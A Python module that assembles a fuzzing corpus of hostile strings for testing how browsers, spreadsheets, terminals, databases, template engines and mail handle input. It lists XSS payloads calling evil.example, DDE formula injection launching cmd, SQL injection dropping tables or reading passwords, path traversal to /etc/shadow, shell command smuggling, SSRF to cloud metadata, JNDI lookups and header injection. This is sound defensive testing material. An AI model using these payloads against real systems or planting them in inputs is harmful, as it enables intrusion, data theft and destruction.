"""Text that is dangerous somewhere: for browsers, spreadsheets, terminals, databases, parsers, mail.
texts() are strings, raw_bytes() what is no UTF-8. Run as a program it counts them."""

import itertools

TAGS = ["img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee",
        "iframe", "object data=x", "math"]
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover"]
HTML = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "<!--><img src=x onerror=1>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<a href=javascript:alert(1)>x</a>", "&lt;script&gt;",
    "&#60;script&#62;alert(1)", "<style>@import '//evil.example'</style>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//e.example>",
    "<form action=//evil.example><input name=p></form>", "<svg><script>alert&#40;1)</script>",
    "<template><script>alert(1)</script></template>", "javascript:alert(1)", "data:text/html,<script>1",
    "vbscript:msgbox(1)", "<x style=background:url(javascript:1)>", "<xml id=i><x><c><![CDATA[<img>",
    "<img src=\"x` `<script>1</script>\"` `>", "<noscript><p title=\"</noscript><img src=x onerror=1>\">",
    "<script\x0csrc=x>", "<\x00script>alert(1)</script>", "\u2028alert(1)//", "\u2029<script>",
    "＜script＞alert(1)＜/script＞", "<ſcript>", "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript\\u003e",
    "+ADw-script+AD4-", "<plaintext>", "<title></title><script>1</script>", "</textarea><script>1"]
FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://e.example\")",
            "=IMPORTXML(\"http://e.example\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1",
            "－1", "＠x", " =1+1", "\"=1+1", "';=1+1", ",=1+1", ";=1+1", "=1+1\",\"=2+2", "%=1", "|=1",
            "=WEBSERVICE(\"http://e.example\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\ufeff=1+1", "0=1", "\x0b=1"]
ANSI = ["\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://e.example\x07x\x1b]8;;\x07",
        "\x1b[6n", "\x1b[c", "\x1b[21t", "\x1b]52;c;ZXZpbA==\x07", "\x1bP$q\x1b\\", "\x1b[?1049h",
        "\x1b[?25l", "\x1b[1A\x1b[2K", "\x1b(0lqqk", "\x1b#8", "\x1bc", "\x9b31m", "\x9d0;t\x9c",
        "\x90q\x9c", "\x1b[8mhidden", "\x1b[38;5;1mx", "\x1b[10000000b", "\x1b[999999C", "\x1b]4;1;?\x07",
        "\x1b]50;?\x07", "\x1b_G\x1b\\", "\x1b^x\x1b\\", "\x1bX\x1b\\", "\x1b%G", "\x0e\x0f", "a\rb",
        "a\x08\x08b", "\x07\x07\x07", "\x7f\x7f", "\x1b", "\x1b[", "\x1b]"]
UNICODE = ["\u202e" + "exe.gpj", "\u202dx\u202c", "\u2066x\u2069", "\u2067x", "\u200ex\u200f",
           "\u061cx", "a\u200bb", "a\u200db", "\u2060", "\ufeffx", "\ufffe", "\uffff", "\ufdd0",
           "\U0001f468\u200d\U0001f469", "e" + "\u0301" * 200, "\U000e0041\U000e0042", "\u00ad",
           "ｆｕｌｌ", "ﷺ" * 20, "а" + "dmin", "İ", "ß", "\u0130i", "ǅ", "\U0010ffff", "\ue000", "\u3164",
           "\u180e", "\ufff9x\ufffa", "日本語" * 30, "𝒳", "\u0345"]
SQL = ["'", "''", "' OR '1'='1", "'; DROP TABLE alert;--", "' UNION SELECT password FROM user--",
       "1; ATTACH DATABASE '/tmp/x' AS x", "\\'; --", "%' OR 1=1", "_", "%", "x' AND sleep(5)--",
       "'||(SELECT hash FROM token)||'", "\"; DELETE FROM audit; --", "/**/OR/**/1=1", "0x27", "?1", ":a",
       "MATCH '*'", "alert_text MATCH", "NEAR(a b)", "title:evil", "a AND NOT b", "\"a\"\"b", "^a", "a*"]
JSON = ["\"", "\\", "\\\"", "{\"a\":1}", "\",\"level\":\"low\",\"x\":\"", "]}", "\\u0000", "\\ud800", "\\u202e",
        "null", "true", "[1]", "\"}\n{\"id\":1}", "//x", "/*x*/", "'", "\\x41", "\\/", "{\"$ref\":\"#\"}",
        "__proto__", "constructor", "\b\f\v", "NaN", "-0", "1e999", "{{}}"]
PATHS = ["../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\Windows\\System32", "file:///etc/passwd",
         "....//....//", "%2e%2e%2f", "..%252f", "\\\\evil.example\\share", "/dev/zero", "con", "nul.txt", "a\x00.png",
         "~root", "$HOME", "`id`", "$(id)", ";id", "|id", "&&id", "||id", "\nid\n", "-rf", "--help", "*", "?",
         "{a,b}", "!!", "http://169.254.169.254/", "gopher://127.0.0.1:25/", "/proc/self/environ", ".", ".."]
TEMPLATES = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "*{7*7}", "@(7*7)", "{{constructor}}",
             "${jndi:ldap://e.example/a}", "${${lower:j}ndi:rmi://e.example}", "$${env:HOME}", "{0}", "%s%s%s%n",
             "%x%x%x", "%1$s", "%99999999s", "${IFS}", "{{self}}", "[[${7*7}]]", "~[x]", "<#assign x=1>",
             "{{= 1}}", "$x", "\\N{BULLET}", "%{x}", "{!7*7}", "[%7*7%]", "{{`x`}}"]
LINES = ["a\r\nBcc: x@e.example", "a\nSubject: x", "a\r\n\r\n<script>", "a\r\n.\r\nMAIL FROM:<x@e.example>",
         "\n.\n", "a\r\nSet-Cookie: x=y", "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "a%0d%0aX: y",
         "a\u560d\u560aX: y", "a\x85b", "a\u2028b", "a\x0bb", "a\x0cb", "a\x1eb", "x\ndata: {\"id\":1}\n\n",
         "\n\nevent: alert\ndata: x\n\n", "\nid: 999999\n", "\nretry: 1\n", ": comment\n\n",
         "a\n<13>1 2026-01-01T00:00:00Z h a - - - x", "a\n<13>Jan  1 00:00:00 h a: x",
         "a\nCEF:0|x|x|1|1|x|10|", "a|b|c|d|e|f|g|h|i", "a=b c=d", "\\|", "\\=", "|", "=", "a\\", "\\n",
         "=?UTF-8?B?QmNjOiB4?=", "=?utf-8?q?=0D=0ABcc:x?=", "\"a\" <x@e.example>", "x@e.example, y@e.example",
         "a\tb", "\x00\x00", "a\x00b", "\r", "\n", "\r\n", "#012", "]]>", "\x1a", "\x04", "--b\r\n\r\n"]
MARKDOWN = ["[x](javascript:alert(1))", "![x](http://e.example/p.png)", "<http://e.example>", "```", "# x",
            "| a | b |", "**x**", "[[x]]", "[x]: http://e.example", "~~~html\n<script>", "https://e.example/x",
            "www.e.example", "mailto:x@e.example", "@everyone", "<!channel>", "<@U1>", ":)", "\\[x\\]"]
LONG = ["A" * 5000, "é" * 3000, "\u202e" * 500, "<b>" * 2000, "\x1b[31m" * 500, "'" * 3000, "\\" * 3000,
        "\"" * 3000, "=" * 2000, "a " * 4000, "日" * 3000, "&" * 3000, "\r\n" * 500, "\x00" * 300, "%" * 2000]


BREAKERS = ["\"", "'", "`", "-->", "]]>", "\\", "\\\"", ")", "}", ";", ",", "\u3000"]
CARGO = ["<script>alert(1)</script>", "=1+1", "\x1b[31m", "\r\nX: y", "' --", "{{7*7}}", "../x", "\u202e",
         "|x|", "\x00"]


def texts():
    made = [f"<{tag} {handler}=alert({i})>" for i, (tag, handler)
            in enumerate(itertools.product(TAGS, HANDLERS))]
    controls = [f"c{chr(c)}c" for c in itertools.chain(range(0x20), range(0x7f, 0xa0))]
    broken = [a + b for a, b in itertools.product(BREAKERS, CARGO)]
    tables = (HTML, made, broken, FORMULAS, ANSI, controls, UNICODE, SQL, JSON, PATHS, TEMPLATES, LINES,
              MARKDOWN, LONG)
    return list(dict.fromkeys(itertools.chain(*tables)))


def raw_bytes():
    """Not UTF-8; none of them holds a quote, a backslash or a line end."""
    bad = [b"\xff", b"\xfe\xff", b"\xc0\xaf", b"\xc1\x81", b"\xe0\x80\xaf", b"\xed\xa0\x80",
           b"\xed\xbf\xbf", b"\xf0\x80\x80\xaf", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\x80",
           b"\xbf", b"\xe3\x81", b"\xf0\x9f\x98", b"\xc3(", b"\xe2(\xa1", b"\x83\x65\x83\x58",
           b"caf\xe9", b"\xa4\xa2\xa4\xa4", b"\xfc\x80\x80\x80\x80\x80", b"\xc3<script>", b"\xe2\x80=1+1"]
    return bad + [b"a" + piece + b"z" * 40 for piece in bad]


if __name__ == "__main__":
    print(len(texts()), "texts,", len(raw_bytes()), "that are no UTF-8")
